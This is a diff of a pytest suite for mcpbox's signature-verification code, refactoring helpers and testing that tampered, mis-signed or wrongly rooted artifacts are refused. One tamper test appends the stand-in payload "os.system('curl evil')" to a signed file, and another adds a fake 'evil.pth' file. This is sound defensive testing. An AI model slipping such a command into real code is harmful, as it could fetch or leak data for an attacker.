@@ -19,45 +19,23 @@ import minting
 from mcpbox.profile import Verify
 from mcpbox.trust import verify as trust
 from mcpbox.trust.errors import ArtifactError, BundleError, ContentMismatch, SignatureRejected, TrustRootError
-from trustkit import ME, RELEASE, other_root, test_root, write_tree  # noqa: F401 (fixtures)
+from trustkit import ME, RELEASE, audit_lines, signed_file, signed_tree, verify_fields, write_tree
+from trustkit import other_root, test_root  # noqa: F401 (fixtures)
 
 SERVER = b"print('the signed server')\n"
 TREE = {"server.py": b"import lib.util\n", "lib/__init__.py": b"", "lib/util.py": b"ANSWER = 42\n"}
 
 
-def policy(root: minting.TestRoot, artifact: Path, bundle: Path, signer: minting.Signer = ME, **changes: str) -> Verify:
-    fields = {"artifact": str(artifact), "bundle": str(bundle), "identity": signer.identity,
-              "issuer": signer.issuer, "trusted_root": str(root.path), **changes}
-    return Verify(**{k: v for k, v in fields.items() if v is not None})
-
-
-def signed_file(root: minting.TestRoot, tmp_path: Path, data: bytes = SERVER, signer: minting.Signer = ME,
-                **options: dt.timedelta) -> tuple[Path, Path]:
-    artifact = tmp_path / "server.py"
-    artifact.write_bytes(data)
-    bundle = tmp_path / "server.py.sigstore.json"
-    bundle.write_bytes(root.sign_blob(data, signer, **options))
-    return artifact, bundle
-
-
-def signed_tree(root: minting.TestRoot, tmp_path: Path, files: dict[str, bytes] = TREE,
-                signer: minting.Signer = ME) -> tuple[Path, Path]:
-    artifact = write_tree(tmp_path / "server", files)
-    bundle = tmp_path / "server.sigstore.json"
-    bundle.write_bytes(root.sign_statement(minting.tree_statement(files), signer))
-    return artifact, bundle
-
-
-def audit_lines() -> list[dict[str, object]]:
-    path = Path(os.environ["XDG_STATE_HOME"]) / "mcpbox" / "audit.jsonl"
-    return [json.loads(line) for line in path.read_text().splitlines()]
+def policy(root: minting.TestRoot, artifact: Path, bundle: Path, signer: minting.Signer = ME,
+           **changes: str | None) -> Verify:
+    return Verify(**verify_fields(root, artifact, bundle, signer, **changes))
 
 
 # -- what verifies -------------------------------------------------------------------------------------
 
 
 def test_good_file_verifies_and_the_staged_copy_is_what_was_signed(test_root, tmp_path: Path) -> None:
-    artifact, bundle = signed_file(test_root, tmp_path)
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER)
     result = trust.verified(policy(test_root, artifact, bundle), None)
     assert (result.kind, result.identity, result.issuer, result.cached) == ("file", ME.identity, ME.issuer, False)
     assert result.log_time == "2024-06-01T12:00:05Z"
@@ -71,7 +49,7 @@ def test_good_file_verifies_and_the_staged_copy_is_what_was_signed(test_root, tm
 
 
 def test_good_tree_verifies_and_only_its_listed_files_are_staged(test_root, tmp_path: Path) -> None:
-    artifact, bundle = signed_tree(test_root, tmp_path)
+    artifact, bundle = signed_tree(test_root, tmp_path / "server", TREE)
     result = trust.verified(policy(test_root, artifact, bundle), None)
     assert (result.kind, result.files) == ("tree", 3)
     staged = Path(result.staged)
@@ -112,7 +90,7 @@ def test_a_file_signed_through_an_in_toto_statement_verifies_by_its_subject_dige
 
 @pytest.mark.parametrize("repository", ["acme/weather-mcp", "https://github.com/acme/weather-mcp"])
 def test_any_release_of_a_repository_verifies(test_root, tmp_path: Path, repository: str) -> None:
-    artifact, bundle = signed_file(test_root, tmp_path, signer=RELEASE)
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER, signer=RELEASE)
     rule = policy(test_root, artifact, bundle, identity=None, repository=repository, ref="refs/tags/v*",
                   workflow="release.yml", issuer=minting.GHA)
     assert trust.verified(rule, None).identity == RELEASE.identity
@@ -125,7 +103,7 @@ def test_verification_never_touches_the_network(test_root, tmp_path: Path, monke
     monkeypatch.setattr(socket.socket, "connect", refuse)
     monkeypatch.setattr(socket, "create_connection", refuse)
     monkeypatch.setattr(socket, "getaddrinfo", refuse)
-    artifact, bundle = signed_tree(test_root, tmp_path)
+    artifact, bundle = signed_tree(test_root, tmp_path / "server", TREE)
     assert trust.verified(policy(test_root, artifact, bundle), None, fresh=True).kind == "tree"
 
 
@@ -133,7 +111,7 @@ def test_verification_never_touches_the_network(test_root, tmp_path: Path, monke
 
 
 def test_tampered_file_is_refused_with_both_digests(test_root, tmp_path: Path) -> None:
-    artifact, bundle = signed_file(test_root, tmp_path)
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER)
     artifact.write_bytes(SERVER + b"import os; os.system('curl evil')\n")
     with pytest.raises(ContentMismatch) as caught:
         trust.verified(policy(test_root, artifact, bundle), None)
@@ -154,7 +132,7 @@ def test_tampered_file_is_refused_with_both_digests(test_root, tmp_path: Path) -
      "lib/evil.pth is an extra file"),
 ])
 def test_changed_missing_and_extra_files_fail_a_tree(test_root, tmp_path: Path, change, expected: str) -> None:
-    artifact, bundle = signed_tree(test_root, tmp_path)
+    artifact, bundle = signed_tree(test_root, tmp_path / "server", TREE)
     change(artifact)
     with pytest.raises(ContentMismatch, match=expected):
         trust.verified(policy(test_root, artifact, bundle), None)
@@ -162,7 +140,7 @@ def test_changed_missing_and_extra_files_fail_a_tree(test_root, tmp_path: Path, 
 
 @pytest.mark.parametrize("special", ["symlink", "fifo"])
 def test_symlinks_and_special_files_in_a_tree_are_refused(test_root, tmp_path: Path, special: str) -> None:
-    artifact, bundle = signed_tree(test_root, tmp_path)
+    artifact, bundle = signed_tree(test_root, tmp_path / "server", TREE)
     if special == "symlink":
         (artifact / "lib" / "util.py").unlink()
         (artifact / "lib" / "util.py").symlink_to(tmp_path / "elsewhere.py")
@@ -174,7 +152,7 @@ def test_symlinks_and_special_files_in_a_tree_are_refused(test_root, tmp_path: P
 
 
 def test_wrong_identity_says_who_was_expected_and_who_signed(test_root, tmp_path: Path) -> None:
-    artifact, bundle = signed_file(test_root, tmp_path, signer=minting.Signer("mallory@example.com", ME.issuer))
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER, signer=minting.Signer("mallory@example.com", ME.issuer))
     with pytest.raises(SignatureRejected) as caught:
         trust.verified(policy(test_root, artifact, bundle), None)
     assert str(caught.value) == (
@@ -183,7 +161,8 @@ def test_wrong_identity_says_who_was_expected_and_who_signed(test_root, tmp_path
 
 
 def test_wrong_issuer_is_refused(test_root, tmp_path: Path) -> None:
-    artifact, bundle = signed_file(test_root, tmp_path, signer=minting.Signer(ME.identity, "https://accounts.evil"))
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER,
+                                   signer=minting.Signer(ME.identity, "https://accounts.evil"))
     with pytest.raises(SignatureRejected, match="expected identity .*, issuer https://issuer.example; found "
                                                 "identity publisher@example.com, issuer https://accounts.evil"):
         trust.verified(policy(test_root, artifact, bundle), None)
@@ -197,7 +176,7 @@ def test_wrong_issuer_is_refused(test_root, tmp_path: Path) -> None:
     (minting.Signer(RELEASE.identity, "https://accounts.evil", RELEASE.claims), "issuer https://accounts.evil"),
 ])
 def test_wrong_repository_ref_workflow_or_issuer_is_refused(test_root, tmp_path: Path, signer, found: str) -> None:
-    artifact, bundle = signed_file(test_root, tmp_path, signer=signer)
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER, signer=signer)
     rule = policy(test_root, artifact, bundle, identity=None, repository="acme/weather-mcp", ref="refs/tags/*",
                   workflow="release.yml", issuer=minting.GHA)
     with pytest.raises(SignatureRejected) as caught:
@@ -208,7 +187,7 @@ def test_wrong_repository_ref_workflow_or_issuer_is_refused(test_root, tmp_path:
 
 
 def test_a_bundle_from_another_trust_root_is_refused(test_root, other_root, tmp_path: Path) -> None:
-    artifact, bundle = signed_file(other_root, tmp_path)
+    artifact, bundle = signed_file(other_root, tmp_path, SERVER)
     with pytest.raises(SignatureRejected) as caught:
         trust.verified(policy(test_root, artifact, bundle), None)
     message = str(caught.value)
@@ -219,13 +198,13 @@ def test_a_bundle_from_another_trust_root_is_refused(test_root, other_root, tmp_
 
 def test_log_time_outside_the_certificate_validity_is_refused(test_root, tmp_path: Path) -> None:
     """Logged 20 minutes after signing, by a certificate that lived 10: no proof it signed while valid."""
-    artifact, bundle = signed_file(test_root, tmp_path, log_delay=dt.timedelta(minutes=20))
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER, log_delay=dt.timedelta(minutes=20))
     with pytest.raises(SignatureRejected, match="not valid at validation time"):
         trust.verified(policy(test_root, artifact, bundle), None)
 
 
 def test_corrupted_log_proof_is_refused(test_root, tmp_path: Path) -> None:
-    artifact, bundle = signed_file(test_root, tmp_path)
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER)
     bundle.write_bytes(minting.corrupt_proof(bundle.read_bytes()))
     with pytest.raises(SignatureRejected, match="invalid log entry: inclusion proof contains invalid root hash"):
         trust.verified(policy(test_root, artifact, bundle), None)
@@ -261,7 +240,7 @@ def test_a_statement_naming_paths_outside_the_tree_is_refused(test_root, tmp_pat
 
 
 def test_an_artifact_reached_through_a_symlink_is_refused(test_root, tmp_path: Path) -> None:
-    artifact, bundle = signed_file(test_root, tmp_path)
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER)
     (tmp_path / "alias.py").symlink_to(artifact)
     with pytest.raises(ArtifactError, match="reached through a symlink; give its real path"):
         trust.verified(policy(test_root, tmp_path / "alias.py", bundle), None)
@@ -271,7 +250,7 @@ def test_an_artifact_reached_through_a_symlink_is_refused(test_root, tmp_path: P
 
 
 def test_a_trust_root_others_may_write_is_refused(test_root, tmp_path: Path) -> None:
-    artifact, bundle = signed_file(test_root, tmp_path)
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER)
     loose = tmp_path / "loose.trusted_root.json"
     loose.write_bytes(test_root.trusted_root_json())
     loose.chmod(0o666)
@@ -286,7 +265,7 @@ def test_an_altered_pinned_root_is_refused(test_root, tmp_path: Path, monkeypatc
     altered = tmp_path / "trusted_root.json"
     altered.write_bytes(test_root.trusted_root_json())  # a root the attacker controls
     monkeypatch.setattr(root, "PINNED", str(altered))
-    artifact, bundle = signed_file(test_root, tmp_path)
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER)
     with pytest.raises(TrustRootError, match="pinned trust root .* was altered"):
         trust.verified(policy(test_root, artifact, bundle, trusted_root=None), None)
 
@@ -305,7 +284,7 @@ def test_a_refreshed_root_replaces_the_pinned_one(test_root, tmp_path: Path) -> 
     """What `mcpbox trust update` writes is what verification uses when the profile names no root."""
     from mcpbox.trust import root
 
-    artifact, bundle = signed_file(test_root, tmp_path)
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER)
     without_root = policy(test_root, artifact, bundle, trusted_root=None)
     with pytest.raises(SignatureRejected, match="trust root .*/mcpbox/trust/trusted_root.json"):
         trust.verified(without_root, None)  # the pinned public-good root does not know the test CA
@@ -319,7 +298,7 @@ def test_a_refreshed_root_replaces_the_pinned_one(test_root, tmp_path: Path) -> 
 
 
 def test_an_unchanged_artifact_is_served_from_the_cache(test_root, tmp_path: Path) -> None:
-    artifact, bundle = signed_tree(test_root, tmp_path)
+    artifact, bundle = signed_tree(test_root, tmp_path / "server", TREE)
     first = trust.verified(policy(test_root, artifact, bundle), None)
     again = trust.verified(policy(test_root, artifact, bundle), None)
     assert again.cached and again._replace(cached=False) == first
@@ -327,7 +306,7 @@ def test_an_unchanged_artifact_is_served_from_the_cache(test_root, tmp_path: Pat
 
 @pytest.mark.parametrize("change", ["rewrite", "touch", "add", "remove", "replace", "retype", "bundle", "policy"])
 def test_any_change_is_noticed_and_verified_again(test_root, tmp_path: Path, change: str) -> None:
-    artifact, bundle = signed_tree(test_root, tmp_path)
+    artifact, bundle = signed_tree(test_root, tmp_path / "server", TREE)
     rule = policy(test_root, artifact, bundle)
     trust.verified(rule, None)
     assert trust.verified(rule, None).cached
@@ -382,7 +361,7 @@ def test_a_change_of_the_deciding_code_is_noticed(test_root, tmp_path: Path, mon
     code = tmp_path / "verify.py"
     code.write_bytes(Path(trust.CODE[0]).read_bytes())
     monkeypatch.setattr(trust, "CODE", (str(code),))
-    artifact, bundle = signed_file(test_root, tmp_path)
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER)
     rule = policy(test_root, artifact, bundle)
     trust.verified(rule, None)
     assert trust.verified(rule, None).cached
@@ -393,7 +372,7 @@ def test_a_change_of_the_deciding_code_is_noticed(test_root, tmp_path: Path, mon
 def test_a_damaged_cache_entry_is_a_miss(test_root, tmp_path: Path) -> None:
     from mcpbox import cache
 
-    artifact, bundle = signed_tree(test_root, tmp_path)
+    artifact, bundle = signed_tree(test_root, tmp_path / "server", TREE)
     rule = policy(test_root, artifact, bundle)
     first = trust.verified(rule, None)
     [entry] = (Path(os.environ["XDG_CACHE_HOME"]) / "mcpbox" / "verified").iterdir()
@@ -405,7 +384,7 @@ def test_a_damaged_cache_entry_is_a_miss(test_root, tmp_path: Path) -> None:
 
 def test_a_file_dated_before_1970_verifies_afresh_each_time(test_root, tmp_path: Path) -> None:
     """Its mtime does not fit the cache's unsigned fingerprint: never served from the cache, never wrong."""
-    artifact, bundle = signed_tree(test_root, tmp_path)
+    artifact, bundle = signed_tree(test_root, tmp_path / "server", TREE)
     os.utime(artifact / "server.py", ns=(-86_400 * 10**9, -86_400 * 10**9))
     rule = policy(test_root, artifact, bundle)
     assert not trust.verified(rule, None).cached
@@ -415,7 +394,7 @@ def test_a_file_dated_before_1970_verifies_afresh_each_time(test_root, tmp_path:
 def test_a_removed_store_entry_is_staged_again(test_root, tmp_path: Path) -> None:
     from mcpbox.trust import store
 
-    artifact, bundle = signed_file(test_root, tmp_path)
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER)
     first = trust.verified(policy(test_root, artifact, bundle), None)
     store._discard(first.staged)
     again = trust.verified(policy(test_root, artifact, bundle), None)
@@ -432,7 +411,7 @@ def test_half_built_copies_of_a_killed_run_are_swept(test_root, tmp_path: Path) 
     recent = Path(store.store_dir()) / "tmp" / "tree-running"
     recent.mkdir()
     os.utime(left, (0, 0))
-    artifact, bundle = signed_file(test_root, tmp_path)
+    artifact, bundle = signed_file(test_root, tmp_path, SERVER)
     trust.verified(policy(test_root, artifact, bundle), None)
     assert not left.exists(), "an hour-old half-built copy is removed"
     assert recent.exists(), "a copy another mcpbox may be building right now is left alone"
